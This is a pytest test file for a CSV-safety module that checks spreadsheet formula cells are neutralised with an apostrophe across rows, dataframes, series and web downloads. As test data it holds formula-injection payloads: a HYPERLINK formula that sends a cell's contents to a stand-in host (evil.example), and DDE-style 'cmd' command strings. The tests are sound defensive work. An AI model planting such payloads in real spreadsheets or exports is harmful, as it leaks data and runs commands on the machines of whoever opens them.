"""CSV/formula injection: every CSV writer neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from peacewatch.csvsafe import neutralise, safe_frame, safe_row, to_csv

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Ahmed Karimov")'


@pytest.mark.parametrize(
    "cell",
    [
        EVIL,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_formula_cells_get_an_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Ahmed Karimov", "", "-3.5", "+41", "1e-3", -3.5, 0, None, "O'Brien"])
def test_plain_text_and_numbers_are_untouched(cell):
    assert neutralise(cell) == cell


def test_frames_keep_numeric_columns_numeric():
    df = pd.DataFrame(
        {"name": [EVIL, "Anna Berg"], "score": [-0.5, 0.9], "n": [-3, 4]}, index=pd.Index(["@x", "y"], name="key")
    )
    out = safe_frame(df)
    assert out["name"].tolist() == ["'" + EVIL, "Anna Berg"]
    assert out["score"].dtype == float and out["score"].tolist() == [-0.5, 0.9]
    assert out["n"].tolist() == [-3, 4] and out.index.tolist() == ["'@x", "y"]
    text = to_csv(df, index=False)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + EVIL, "-0.5", "-3"]
    assert df["name"].iloc[0] == EVIL  # the caller's frame is not changed


def test_rows_for_the_csv_module():
    assert safe_row({"a": EVIL, "b": -1}) == {"a": "'" + EVIL, "b": -1}
    assert safe_row([EVIL, "x"]) == ["'" + EVIL, "x"]


def test_web_csv_download_is_neutralised():
    from peacewatch.web.templating import csv_response

    body = csv_response([{"country": EVIL, "value": -1.5}], ["country", "value"], "x.csv").body.decode()
    assert body.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Ahmed Karimov"")",-1.5'


def test_series_are_neutralised_too():
    s = pd.Series([3, 4], index=pd.Index([EVIL, "Tier 1"], name="tier"), name="count")
    assert to_csv(s).splitlines()[1].startswith("\"'=HYPERLINK")
